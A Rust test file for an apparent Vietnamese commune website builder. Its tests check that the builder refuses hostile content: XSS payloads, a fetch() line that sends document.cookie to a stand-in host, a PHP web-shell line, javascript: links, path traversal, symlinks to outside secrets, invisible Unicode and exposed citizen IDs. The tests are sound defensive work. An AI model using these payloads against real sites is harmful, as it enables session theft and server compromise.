//! One fixture per threat: the exact exit code (1), where the refusal points and its code, and
//! that nothing was published. Threats follow issue #6: HTML safety, personal data, links,
//! encodings and Unicode, hostile files.

use crate::common::{DECISION, Project};
use crate::{NOTICE, SITE_FILE, notice, notice_with, refused};

fn at(line: usize, col: usize) -> String {
    format!("{NOTICE}:{line}:{col}")
}

/// The notice with `body` refused at `(line, col)` with `code`.
#[track_caller]
fn body_refused(body: &str, line: usize, col: usize, code: &str) {
    let p = Project::new();
    p.write(NOTICE, &notice(body));
    refused(&p, &[(&at(line, col), code)]);
}

// ---- 1. HTML safety: raw HTML in bodies ----

#[test]
fn script_tag() {
    body_refused(
        "Xin chào <script>alert(document.cookie)</script>\n",
        8,
        10,
        "html",
    );
}

#[test]
fn script_block_on_its_own_lines() {
    body_refused(
        "Đoạn một.\n\n<script>\nfetch('https://x.example/'+document.cookie)\n</script>\n",
        10,
        1,
        "html",
    );
}

#[test]
fn event_handler_attribute() {
    body_refused("Bấm <b onclick=\"alert(1)\">vào đây</b>.\n", 8, 5, "html");
}

#[test]
fn img_onerror() {
    body_refused("<img src=x onerror=alert(1)>\n", 8, 1, "html");
}

#[test]
fn img_tab_separated_handler() {
    body_refused(
        "Ảnh <img src=\"/tep/a.png\"\tonerror=alert(1)> đây.\n",
        8,
        5,
        "html",
    );
}

#[test]
fn iframe() {
    body_refused(
        "Xem video:\n\n<iframe src=\"https://evil.example/\"></iframe>\n",
        10,
        1,
        "html",
    );
}

#[test]
fn object_and_embed() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("<object data=\"x.swf\"></object>\n\nVà <embed src=\"x.swf\">\n"),
    );
    refused(&p, &[(&at(8, 1), "html"), (&at(10, 4), "html")]);
}

#[test]
fn style_tag_and_style_attribute() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("<style>body{background:url(javascript:alert(1))}</style>\n\nChữ <span style=\"x:expression(alert(1))\">đỏ</span>\n"),
    );
    refused(&p, &[(&at(8, 1), "html"), (&at(10, 5), "html")]);
}

#[test]
fn svg_with_script() {
    body_refused(
        "<svg onload=alert(1)><script>alert(2)</script></svg>\n",
        8,
        1,
        "html",
    );
}

#[test]
fn form_and_input() {
    body_refused(
        "<form action=\"https://evil.example/\"><input name=cccd></form>\n",
        8,
        1,
        "html",
    );
}

#[test]
fn meta_refresh_and_base() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n\nChữ <base href=\"https://evil.example/\"> cuối.\n"),
    );
    refused(&p, &[(&at(8, 1), "html"), (&at(10, 5), "html")]);
}

#[test]
fn tag_split_across_lines_of_an_html_block() {
    body_refused(
        "<div\nonmouseover=\"alert(1)\">\nNội dung\n</div>\n",
        8,
        1,
        "html",
    );
}

#[test]
fn uppercase_and_mixed_case_tags() {
    body_refused("Chữ <ScRiPt>alert(1)</sCrIpT>\n", 8, 5, "html");
}

#[test]
fn processing_instruction_and_cdata() {
    body_refused("<?php system($_GET['c']); ?>\n", 8, 1, "html");
}

// ---- 1b. HTML safety: link schemes ----

#[test]
fn javascript_markdown_link() {
    body_refused(
        "Xem [tại đây](javascript:alert(1)).\n",
        8,
        5,
        "lien-ket-nguy-hiem",
    );
}

#[test]
fn javascript_link_with_spaces_and_case() {
    body_refused(
        "Xem [tại đây](<JaVa Script:alert(1)>).\n",
        8,
        5,
        "lien-ket-nguy-hiem",
    );
}

#[test]
fn entity_encoded_javascript_in_raw_html() {
    body_refused(
        "<a href=\"&#106;avascript&#58;alert(1)\">x</a>\n",
        8,
        1,
        "lien-ket-nguy-hiem",
    );
}

#[test]
fn data_url_image() {
    body_refused(
        "![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n",
        8,
        1,
        "lien-ket-nguy-hiem",
    );
}

#[test]
fn vbscript_link() {
    body_refused("[x](vbscript:msgbox(1))\n", 8, 1, "lien-ket-nguy-hiem");
}

#[test]
fn javascript_autolink() {
    body_refused(
        "Địa chỉ <javascript:alert(1)>\n",
        8,
        9,
        "lien-ket-nguy-hiem",
    );
}

#[test]
fn file_and_unknown_schemes() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("[a](file:///etc/passwd)\n\n[b](ms-word:ofe|u|https://x.example/a.doc)\n"),
    );
    refused(
        &p,
        &[
            (&at(8, 1), "lien-ket-nguy-hiem"),
            (&at(10, 1), "lien-ket-nguy-hiem"),
        ],
    );
}

#[test]
fn guide_link_field_with_javascript() {
    let p = Project::new();
    p.write(
        "content/_chung/dich-vu/dang-ky-tam-tru.md",
        &crate::common::GUIDE.replace(
            "lien_ket: https://dichvucong.gov.vn/",
            "lien_ket: \"javascript:alert(1)\"",
        ),
    );
    refused(
        &p,
        &[("content/_chung/dich-vu/dang-ky-tam-tru.md:6:11", "lien-ket")],
    );
}

#[test]
fn base_url_that_breaks_out_of_an_attribute() {
    let p = Project::new();
    p.write(
        SITE_FILE,
        &crate::common::SITE.replace(
            "base_url: \"https://binhminh.example.gov.vn/\"",
            "base_url: \"https://binhminh.example.gov.vn/\\\"><script>alert(1)</script>\"",
        ),
    );
    refused(&p, &[(&format!("{SITE_FILE}:6:11"), "base-url")]);
}

// ---- 2. Personal data ----

#[test]
fn citizen_id_in_a_body() {
    body_refused(
        "Ông Nguyễn Văn A, CCCD số 046095001234, trú tại thôn 1.\n",
        8,
        27,
        "du-lieu-ca-nhan",
    );
}

#[test]
fn citizen_id_grouped_with_dots() {
    body_refused("CCCD: 046.095.001.234\n", 8, 7, "du-lieu-ca-nhan");
}

#[test]
fn old_id_number_in_a_table() {
    body_refused(
        "| STT | Họ tên | CMND |\n|---|---|---|\n| 1 | Lê Thị B | 201 234 567 |\n",
        10,
        18,
        "du-lieu-ca-nhan",
    );
}

#[test]
fn mobile_with_country_code_in_front_matter() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("Nội dung.\n").replace(
            "Thông báo lịch tiếp dân",
            "Liên hệ +84 912 000 111 để đăng ký",
        ),
    );
    refused(&p, &[(&format!("{NOTICE}:5:21"), "du-lieu-ca-nhan")]);
}

#[test]
fn mobile_in_a_tel_link() {
    body_refused(
        "[Gọi anh Nam](tel:0987.111.222)\n",
        8,
        19,
        "du-lieu-ca-nhan",
    );
}

#[test]
fn citizen_id_in_the_site_file() {
    let p = Project::new();
    p.write(
        SITE_FILE,
        &crate::common::SITE.replace(
            "\"Công an xã Bình Minh\"",
            "\"Công an xã Bình Minh (CCCD 046095001234)\"",
        ),
    );
    refused(&p, &[(&format!("{SITE_FILE}:8:50"), "du-lieu-ca-nhan")]);
}

#[test]
fn citizen_id_in_a_csv_roster_name_column() {
    csv_refused(
        "ho_ten,chuc_vu,vai_tro,dien_thoai\nNguyễn Văn Hùng 046095001234,Chủ tịch UBND xã,to-truong,0912 345 678\n",
        2,
        17,
        "du-lieu-ca-nhan",
    );
}

#[test]
fn mobile_in_a_shared_guide() {
    let p = Project::new();
    p.write(
        "content/_chung/dich-vu/dang-ky-tam-tru.md",
        &format!(
            "{}3. Cần hỗ trợ gọi chị Lan 0356 789 012.\n",
            crate::common::GUIDE
        ),
    );
    refused(
        &p,
        &[(
            "content/_chung/dich-vu/dang-ky-tam-tru.md:15:27",
            "du-lieu-ca-nhan",
        )],
    );
}

#[test]
fn html_comment_opt_out_does_not_work_inside_yaml_values() {
    // Written inside a quoted YAML value, the HTML comment is text, not a marker: refused and
    // the hint names the YAML comment form.
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("Nội dung.\n").replace(
            "Thông báo lịch tiếp dân",
            "Gọi 0912 000 111 <!-- niemyet -->",
        ),
    );
    refused(&p, &[(&format!("{NOTICE}:5:17"), "du-lieu-ca-nhan")]).says("`# niemyet: cho-phep-so`");
}

// ---- 3. Links ----

#[test]
fn dead_internal_link_names_the_nearest_page() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("Xem [quyết định](/van-ban/quyet-dinh-51/).\n"),
    );
    refused(&p, &[(&at(8, 5), "lien-ket-hong")]).says("`/van-ban/quyet-dinh-15/`");
}

#[test]
fn missing_anchor() {
    body_refused(
        "Xem [Điều 9](/van-ban/quyet-dinh-15/#dieu-9).\n",
        8,
        5,
        "lien-ket-neo",
    );
}

#[test]
fn relative_link_climbing_out_of_the_site() {
    body_refused(
        "[mật khẩu](../../../../../../etc/passwd)\n",
        8,
        1,
        "lien-ket-hong",
    );
}

#[test]
fn link_to_a_missing_attachment() {
    body_refused("[phụ lục](/tep/2025/khong-co.pdf)\n", 8, 1, "lien-ket-hong");
}

#[test]
fn link_to_an_html_file_in_tep() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/tep/trang.html",
        "<script>alert(1)</script>",
    );
    p.write(NOTICE, &notice("[trang](/tep/trang.html)\n"));
    refused(&p, &[(&at(8, 1), "kem-theo-loai")]);
}

// ---- 4. Encodings and Unicode ----

#[test]
fn windows_1258_document() {
    let p = Project::new();
    p.write_bytes(NOTICE, include_bytes!("fixtures/windows-1258.md"));
    refused(&p, &[(&format!("{NOTICE}:5:15"), "ma-hoa")]).says("Windows-1258");
}

#[test]
fn utf16_document() {
    let p = Project::new();
    let mut bytes = vec![0xFF, 0xFE];
    for u in notice("Nội dung.\n").encode_utf16() {
        bytes.extend_from_slice(&u.to_le_bytes());
    }
    p.write_bytes(NOTICE, &bytes);
    refused(&p, &[(&format!("{NOTICE}:1:1"), "ma-hoa")]).says("UTF-16");
}

#[test]
fn nul_byte_in_a_body() {
    let p = Project::new();
    p.write_bytes(NOTICE, notice("Nội\0dung.\n").as_bytes());
    refused(&p, &[(&at(8, 4), "ma-hoa")]);
}

#[test]
fn zero_width_space_in_a_number() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("Nội dung.\n").replace("99/TB-UBND", "99/TB\u{200B}-UBND"),
    );
    refused(&p, &[(&format!("{NOTICE}:3"), "so-hieu")]).says("U+200B");
}

#[test]
fn icelandic_eth_in_a_number() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/van-ban/2025/quyet-dinh-15.md",
        &DECISION.replace("15/QĐ-UBND", "15/Q\u{00D0}-UBND"),
    );
    refused(
        &p,
        &[(
            "content/xa-binh-minh/van-ban/2025/quyet-dinh-15.md:3",
            "so-hieu",
        )],
    )
    .says("U+00D0");
}

#[test]
fn zero_width_space_in_an_area_code() {
    let p = Project::new();
    p.write(
        SITE_FILE,
        &crate::common::SITE.replace("ma: thon-1", "ma: thon\u{200B}-1"),
    );
    refused(&p, &[(&format!("{SITE_FILE}:18:13"), "ky-tu-la")]).says("U+200B");
}

#[test]
fn cyrillic_letter_in_don_vi() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice_with("don_vi: \"huong-\u{0440}hu\"\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:16"), "ky-tu-la")]).says("U+0440");
}

#[test]
fn bidi_override_in_an_attachment_path() {
    let p = Project::new();
    p.write("content/xa-binh-minh/tep/phu-luc.pdf", "%PDF-1.4\n");
    p.write(
        NOTICE,
        &notice_with(
            "kem_theo:\n  - \"tep/phu\u{202E}-luc.pdf\"\n",
            "Nội dung.\n",
        ),
    );
    refused(&p, &[(&format!("{NOTICE}:7:13"), "ky-tu-la")]).says("U+202E");
}

#[test]
fn look_alike_in_a_qr_ledger_code() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/_ma-qr.yaml",
        "- ma: \"K7\u{0421}M\"\n  dich: /khu-dan-cu/thon-1/\n  in_lan_dau: 2025-09-01\n",
    );
    refused(&p, &[("content/xa-binh-minh/_ma-qr.yaml:1:10", "ky-tu-la")]).says("U+0421");
}

#[test]
fn direction_override_in_a_file_name() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/tep/anh\u{202E}fdp.html",
        "<script>alert(1)</script>",
    );
    // Named on the terminal with the character escaped: raw, it would reverse the line.
    let r = refused(
        &p,
        &[(
            "content/xa-binh-minh/tep/anh\\u{202e}fdp.html:1:1",
            "ten-tep",
        )],
    );
    assert!(!r.stderr.contains('\u{202E}'), "{}", r.stderr);
}

#[cfg(target_os = "linux")]
#[test]
fn file_name_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt;
    let p = Project::new();
    let name = std::ffi::OsStr::from_bytes(b"quy\xEAt-dinh.md");
    let path = p.path("content/xa-binh-minh/van-ban").join(name);
    std::fs::write(path, DECISION.replace("15/QĐ", "16/QĐ")).unwrap();
    refused(
        &p,
        &[(
            "content/xa-binh-minh/van-ban/quy\u{FFFD}t-dinh.md:1:1",
            "ten-tep",
        )],
    );
}

#[test]
fn invisible_character_in_a_site_folder() {
    let p = Project::new();
    p.write("content/xa\u{200B}-binh-an/_site.yaml", crate::common::SITE);
    refused(&p, &[("content/xa\\u{200b}-binh-an:1:1", "ma-don-vi")]).says("U+200B");
}

// ---- 5. Hostile files ----

#[test]
fn yaml_alias_bomb() {
    let p = Project::new();
    p.write_bytes(NOTICE, include_bytes!("fixtures/alias-bomb.md"));
    refused(&p, &[(&format!("{NOTICE}:6:7"), "yaml")]).says("anchor");
}

#[test]
fn yaml_nested_too_deep() {
    let p = Project::new();
    let deep = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
    p.write(
        NOTICE,
        &notice_with(&format!("linh_vuc: {deep}\n"), "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6"), "yaml")]);
}

#[test]
fn huge_file() {
    let p = Project::new();
    let body = "Dòng chữ rất dài lặp lại. ".repeat(90_000);
    p.write(NOTICE, &notice(&body));
    refused(&p, &[(&format!("{NOTICE}:1:1"), "tep-lon")]);
}

#[test]
fn random_bytes_as_a_document() {
    let p = Project::new();
    let bytes: Vec<u8> = (0u32..4096)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    p.write_bytes(NOTICE, &bytes);
    let r = refused(&p, &[]);
    assert!(r.stderr.contains(&format!("{NOTICE}:")), "{}", r.stderr);
}

#[cfg(unix)]
#[test]
fn symlink_to_a_secret_outside_the_project() {
    let p = Project::new();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("mat-khau.pdf"), "%PDF-1.4 bí mật").unwrap();
    std::fs::create_dir_all(p.path("content/xa-binh-minh/tep")).unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("mat-khau.pdf"),
        p.path("content/xa-binh-minh/tep/mat-khau.pdf"),
    )
    .unwrap();
    refused(
        &p,
        &[("content/xa-binh-minh/tep/mat-khau.pdf:1:1", "symlink")],
    );
}

#[cfg(unix)]
#[test]
fn symlink_loop() {
    let p = Project::new();
    std::fs::create_dir_all(p.path("content/xa-binh-minh/tep/a")).unwrap();
    std::os::unix::fs::symlink(
        p.path("content/xa-binh-minh/tep"),
        p.path("content/xa-binh-minh/tep/a/vong"),
    )
    .unwrap();
    refused(&p, &[("content/xa-binh-minh/tep/a/vong:1:1", "symlink")]);
}

#[test]
fn dot_dot_in_an_attachment_path() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice_with("kem_theo:\n  - tep/../../../_site.yaml\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:7:5"), "kem-theo")]);
}

#[test]
fn absolute_attachment_path() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice_with("kem_theo: /etc/passwd\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:11"), "kem-theo")]);
}

#[test]
fn dot_dot_in_an_explicit_slug() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice_with("duong_dan: ../../index\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:12"), "duong-dan")]);
}

#[test]
fn dot_dot_in_a_qr_target() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/_ma-qr.yaml",
        "- ma: K7CM\n  dich: /khu-dan-cu/../../../etc/\n  in_lan_dau: 2025-09-01\n",
    );
    refused(
        &p,
        &[("content/xa-binh-minh/_ma-qr.yaml:2:9", "ma-qr-dich")],
    );
}

#[test]
fn svg_attachment() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/tep/so-do.svg",
        "<svg onload=\"alert(1)\"/>",
    );
    p.write(
        NOTICE,
        &notice_with("kem_theo: [tep/so-do.svg]\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:12"), "kem-theo-loai")]);
}

#[test]
fn html_disguised_as_a_pdf() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/tep/phu-luc.pdf",
        "\n  <!DOCTYPE html><html><script>alert(document.domain)</script></html>",
    );
    p.write(
        NOTICE,
        &notice_with("kem_theo: [tep/phu-luc.pdf]\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:12"), "kem-theo-loai")]).says("nội dung là HTML");
}

#[test]
fn attachment_of_an_unknown_type() {
    let p = Project::new();
    p.write("content/xa-binh-minh/tep/cai-dat.exe", "MZ");
    p.write(
        NOTICE,
        &notice_with("kem_theo: [tep/cai-dat.exe]\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:12"), "kem-theo-loai")]);
}

#[test]
fn attachment_name_with_a_hash() {
    let p = Project::new();
    p.write("content/xa-binh-minh/tep/phu-luc#1.pdf", "%PDF-1.4\n");
    p.write(
        NOTICE,
        &notice_with("kem_theo: [\"tep/phu-luc#1.pdf\"]\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:6:12"), "kem-theo-ten")]);
}

#[test]
fn draft_is_never_published_and_links_to_it_are_dead() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/van-ban/2025/du-thao.md",
        "---\nloai: ke-hoach\nban_nhap: true\ntrich_yeu: \"Dự thảo\"\n---\n\nSố:    /KH-UBND\n",
    );
    p.write(NOTICE, &notice("Xem [dự thảo](/van-ban/du-thao/).\n"));
    refused(&p, &[(&at(8, 5), "lien-ket-hong")]);
}

// ---- False positives: what must never be refused ----

#[test]
fn a_long_realistic_plan_full_of_numbers_passes() {
    let p = Project::new();
    p.write(
        "content/xa-binh-minh/van-ban/2025/ke-hoach-125.md",
        include_str!("fixtures/ke-hoach-dai.md"),
    );
    let r = p.build();
    r.ok();
    assert!(!r.stderr.contains("du-lieu-ca-nhan"), "{}", r.stderr);
}

#[test]
fn the_example_content_is_clean() {
    let p = Project::new();
    p.remove("content");
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("content");
    for e in walkdir::WalkDir::new(&src) {
        let e = e.unwrap();
        if e.file_type().is_file() {
            let rel = e
                .path()
                .strip_prefix(&src)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            p.write_bytes(&format!("content/{rel}"), &std::fs::read(e.path()).unwrap());
        }
    }
    let r = p.check();
    r.ok();
    assert!(!r.stderr.contains("lỗi["), "{}", r.stderr);
}

#[test]
fn yaml_comment_opt_out_allows_a_deliberate_number() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("Nội dung.\n").replace(
            "trich_yeu: \"Thông báo lịch tiếp dân\"",
            "trich_yeu: \"Đường dây hỗ trợ 0912 000 111\" # niemyet: cho-phep-so",
        ),
    );
    p.build().ok();
}

#[test]
fn tracking_image_from_another_site_in_raw_html() {
    body_refused(
        "Ảnh <img src=\"https://tracker.example/p.gif?id=1\" alt=\"x\">\n",
        8,
        5,
        "anh-ngoai",
    );
}

#[cfg(unix)]
#[test]
fn settings_file_that_is_a_fifo_does_not_hang() {
    let p = Project::new();
    let made = std::process::Command::new("mkfifo")
        .arg(p.path("niemyet.yaml"))
        .status()
        .unwrap();
    assert!(made.success());
    refused(&p, &[("niemyet.yaml:1:1", "doc-tep")]);
}

#[test]
fn zero_width_space_in_a_cited_number() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice_with("can_cu:\n  - \"15/QĐ\u{200B}-UBND\"\n", "Nội dung.\n"),
    );
    refused(&p, &[(&format!("{NOTICE}:7:11"), "ky-tu-la")]).says("U+200B");
}

#[test]
fn twenty_thousand_stray_keys_are_named_fifty_at_a_time() {
    let p = Project::new();
    let keys: String = (0..20_000).map(|i| format!("khoa_{i}: {i}\n")).collect();
    p.write(NOTICE, &notice_with(&keys, "Nội dung.\n"));
    let r = refused(
        &p,
        &[
            (&format!("{NOTICE}:6:1"), "khoa-la"),
            (&format!("{NOTICE}:56:1"), "khoa-la"),
        ],
    );
    r.says("chỉ hiện 50 khóa đầu");
    assert_eq!(r.stderr.matches("lỗi[khoa-la]").count(), 51, "{}", r.stderr);
}

// ---- Issue #13, round two: what a careless clerk or an attacker still got through ----

#[test]
fn citizen_id_in_a_file_name() {
    let p = Project::new();
    let name = "content/xa-binh-minh/van-ban/2025/xac-nhan-046190001122.md";
    p.write(name, &notice("Nội dung.\n").replace("99/TB", "98/TB"));
    let r = refused(&p, &[(&format!("{name}:1:1"), "du-lieu-ca-nhan")]);
    r.says("Tên tệp trở thành địa chỉ trang web");
    // A site folder's name is the start of every address of the site.
    let p = Project::new();
    p.write("content/xa-046190001122/_site.yaml", crate::common::SITE);
    refused(&p, &[("content/xa-046190001122:1:1", "du-lieu-ca-nhan")]);
}

#[test]
fn citizen_id_split_by_zero_width_spaces() {
    body_refused(
        "CCCD số 0461\u{200B}9000\u{200B}1122 của ông A.\n",
        8,
        9,
        "du-lieu-ca-nhan",
    );
}

#[test]
fn old_id_number_grouped_with_dots_after_its_name() {
    body_refused(
        "CMND số 191.456.789, cấp năm 2010.\n",
        8,
        9,
        "du-lieu-ca-nhan",
    );
}

#[test]
fn direction_override_in_a_title() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice("Nội dung.\n").replace("Thông báo lịch tiếp dân", "Thông báo \u{202E}nâd pếit"),
    );
    let r = refused(&p, &[(&at(5, 23), "ky-tu-an")]);
    r.says("U+202E");
    assert!(!r.stderr.contains('\u{202E}'), "raw U+202E on the terminal");
}

#[test]
fn zero_width_space_in_an_area_name() {
    let p = Project::new();
    p.write(
        SITE_FILE,
        &crate::common::SITE.replace("\"Thôn Đông Tâm\"", "\"Thôn\u{200B} Đông Tâm\""),
    );
    refused(&p, &[(&format!("{SITE_FILE}:25:15"), "ky-tu-an")]);
}

/// The test site with its roster in `to-cong-tac.csv` holding `rows`.
fn roster_csv(rows: &str) -> Project {
    let p = Project::new();
    let site: String = crate::common::SITE
        .split("to_cong_tac:")
        .next()
        .unwrap()
        .to_string()
        + "khu_dan_cu:\n  - ma: thon-1\n    ten: \"Thôn 1\"\ndich_vu_tren_poster:\n  - dang-ky-tam-tru\n";
    p.write(SITE_FILE, &site);
    p.write("content/xa-binh-minh/to-cong-tac.csv", rows);
    p
}

const ROSTER: &str = "content/xa-binh-minh/to-cong-tac.csv";

/// The roster CSV `rows` refused at `line:column` of the CSV with `code`.
#[track_caller]
fn csv_refused(rows: &str, line: usize, column: usize, code: &str) -> crate::common::Run {
    refused(
        &roster_csv(rows),
        &[(&format!("{ROSTER}:{line}:{column}"), code)],
    )
}

#[test]
fn direction_character_in_a_csv_cell() {
    csv_refused(
        "ho_ten,chuc_vu,vai_tro,dien_thoai\nNguyễn Văn\u{202E} Hùng,Chủ tịch UBND xã,to-truong,0912 345 678\n",
        2,
        11,
        "ky-tu-an",
    );
}

#[test]
fn csv_unclosed_quote_swallowing_the_rest() {
    csv_refused(
        "ho_ten,chuc_vu,vai_tro,dien_thoai\n\"Nguyễn Văn Hùng,Chủ tịch UBND xã,to-truong,0912 345 678\nLê Thị Mai,Trưởng Công an xã,to-pho,\n",
        2,
        1,
        "csv-ngoac-kep",
    );
}

#[test]
fn csv_row_with_more_cells_than_the_header() {
    csv_refused(
        "ho_ten,chuc_vu,vai_tro,dien_thoai\nNguyễn Văn Hùng,Chủ tịch UBND xã,to-truong,0912 345 678,thừa\n",
        2,
        57,
        "csv-thua-o",
    );
}

#[test]
fn csv_header_column_written_twice() {
    csv_refused(
        "ho_ten,chuc_vu,vai_tro,dien_thoai,chuc_vu\nNguyễn Văn Hùng,Chủ tịch UBND xã,to-truong,0912 345 678,\n",
        1,
        35,
        "csv-cot",
    )
    .says("lần đầu ở");
}

#[test]
fn escape_and_bell_in_a_body_never_reach_the_terminal() {
    let p = Project::new();
    p.write(NOTICE, &notice("Xin chào\u{1b}[2J\u{7} bà con.\n"));
    let r = refused(&p, &[(&at(8, 9), "ky-tu-dieu-khien")]);
    assert!(
        !r.stderr.contains('\u{1b}') && !r.stderr.contains('\u{7}'),
        "raw control characters on the terminal: {:?}",
        r.stderr
    );
    r.says("\\u{1b}");
}

/// A folder outside the project holding `files`.
#[cfg(unix)]
fn outside(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (rel, text) in files {
        let path = dir.path().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    dir
}

/// `link` (relative to the project) made a symlink to `target`: refused at `link:1:1`.
#[cfg(unix)]
#[track_caller]
fn linked_refused(p: &Project, target: &std::path::Path, link: &str) -> crate::common::Run {
    std::fs::create_dir_all(p.path(link).parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, p.path(link)).unwrap();
    refused(p, &[(&format!("{link}:1:1"), "symlink")])
}

#[cfg(unix)]
#[test]
fn theme_folder_linked_outside_the_project() {
    let p = Project::new();
    let elsewhere = outside(&[("static/bi-mat.txt", "mật khẩu"), ("templates/.keep", "")]);
    p.write("niemyet.yaml", "giao_dien: ngoai\n");
    linked_refused(&p, elsewhere.path(), "themes/ngoai");
}

#[cfg(unix)]
#[test]
fn shared_guides_folder_linked_outside_the_project() {
    let p = Project::new();
    let elsewhere = outside(&[("dich-vu/dang-ky-tam-tru.md", crate::common::GUIDE)]);
    let _ = std::fs::remove_dir_all(p.path("content/_chung"));
    linked_refused(&p, elsewhere.path(), "content/_chung");
}

#[cfg(unix)]
#[test]
fn content_folder_linked_outside_the_project() {
    let p = Project::new();
    let elsewhere = tempfile::tempdir().unwrap();
    let moved = elsewhere.path().join("content");
    std::fs::rename(p.path("content"), &moved).unwrap();
    linked_refused(&p, &moved, "content");
}

#[cfg(unix)]
#[test]
fn site_folder_and_theme_file_linked_outside_the_project() {
    let p = Project::new();
    let elsewhere = outside(&[("_site.yaml", crate::common::SITE)]);
    linked_refused(&p, elsewhere.path(), "content/xa-ngoai");
    let p = Project::new();
    let elsewhere = outside(&[("404.html", "<p>{{ 1 }}</p>")]);
    p.write("niemyet.yaml", "giao_dien: rieng\n");
    p.write("themes/rieng/static/.keep", "");
    linked_refused(
        &p,
        &elsewhere.path().join("404.html"),
        "themes/rieng/templates/404.html",
    );
}

#[cfg(unix)]
#[test]
fn settings_file_linked_outside_the_project() {
    let p = Project::new();
    let elsewhere = outside(&[("niemyet.yaml", "giao_dien: default\n")]);
    linked_refused(&p, &elsewhere.path().join("niemyet.yaml"), "niemyet.yaml");
}

#[test]
fn replacement_cycle() {
    let p = Project::new();
    let other = "content/xa-binh-minh/van-ban/2025/thong-bao-98.md";
    p.write(
        NOTICE,
        &notice_with("thay_the:\n  - \"98/TB-UBND\"\n", "Nội dung.\n"),
    );
    p.write(
        other,
        &notice_with("thay_the:\n  - \"99/TB-UBND\"\n", "Nội dung.\n").replace("99/TB", "98/TB"),
    );
    // The replace above also rewrote the number it replaces: put it back.
    p.write(
        other,
        &p.read(other)
            .replace("- \"98/TB-UBND\"", "- \"99/TB-UBND\""),
    );
    refused(
        &p,
        &[
            (&format!("{NOTICE}:7"), "vong-thay-the"),
            (&format!("{other}:7"), "vong-thay-the"),
        ],
    );
}

#[test]
fn amendment_cycle_through_three_documents() {
    let p = Project::new();
    let doc = |n: u32, amends: u32| {
        notice_with(
            &format!("sua_doi:\n  - \"{amends}/TB-UBND\"\n"),
            "Nội dung.\n",
        )
        .replace(
            "so_hieu: \"99/TB-UBND\"",
            &format!("so_hieu: \"{n}/TB-UBND\""),
        )
    };
    let path = |n: u32| format!("content/xa-binh-minh/van-ban/2025/thong-bao-{n}.md");
    p.write(&path(91), &doc(91, 92));
    p.write(&path(92), &doc(92, 93));
    p.write(&path(93), &doc(93, 91));
    refused(
        &p,
        &[
            (&format!("{}:7", path(91)), "vong-thay-the"),
            (&format!("{}:7", path(92)), "vong-thay-the"),
            (&format!("{}:7", path(93)), "vong-thay-the"),
        ],
    );
}

#[test]
fn replacement_chain_without_a_loop_is_fine() {
    let p = Project::new();
    p.write(
        NOTICE,
        &notice_with("thay_the:\n  - \"15/QĐ-UBND\"\n", "Nội dung.\n"),
    );
    p.build().ok();
}

/// A theme `rieng` with `templates` (name, source), refused at `location` in one of them.
#[track_caller]
fn theme_refused(templates: &[(&str, &str)], location: &str) -> crate::common::Run {
    let p = Project::new();
    p.write("niemyet.yaml", "giao_dien: rieng\n");
    for (name, source) in templates {
        p.write(&format!("themes/rieng/templates/{name}"), source);
    }
    let r = refused(
        &p,
        &[(
            &format!("themes/rieng/templates/{location}"),
            "mau-giao-dien",
        )],
    );
    assert!(!r.stderr.contains("themes:1:1"), "{}", r.stderr);
    r
}

#[test]
fn theme_template_calling_an_unknown_function() {
    theme_refused(
        &[(
            "404.html",
            "{% extends \"base.html\" %}\n{% block content %}\n<p>{{ now() }}</p>\n{% endblock %}\n",
        )],
        "404.html:3:7",
    )
    .says("Hàm `now`");
}

#[test]
fn theme_templates_including_each_other() {
    theme_refused(
        &[
            ("_a.html", "<p>A</p>\n{% include \"_b.html\" %}\n"),
            ("_b.html", "<p>B</p>\n{% include \"_a.html\" %}\n"),
            (
                "404.html",
                "{% extends \"base.html\" %}\n{% block content %}\n{% include \"_a.html\" %}\n{% endblock %}\n",
            ),
        ],
        "_b.html:2:13",
    )
    .says("vòng");
}

#[cfg(unix)]
#[test]
